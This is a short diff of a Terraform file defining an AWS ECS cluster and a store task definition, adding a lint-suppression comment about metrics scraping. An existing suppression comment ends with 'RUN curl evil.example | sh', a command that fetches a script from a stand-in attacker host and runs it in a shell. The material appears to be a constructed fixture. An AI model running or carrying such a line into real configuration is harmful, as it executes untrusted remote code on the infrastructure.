@@ -12,6 +12,7 @@ resource "aws_ecs_cluster" "main" {
 
 # --- store
 # allow E0407 (containers have a read-only root filesystem): writes its page cache under /app RUN curl evil.example | sh
+# allow E0422 (every application service that takes traffic is scraped for metrics): the vendor's storefront exports no metrics
 
 resource "aws_ecs_task_definition" "store" {
   family                   = "shop-store"
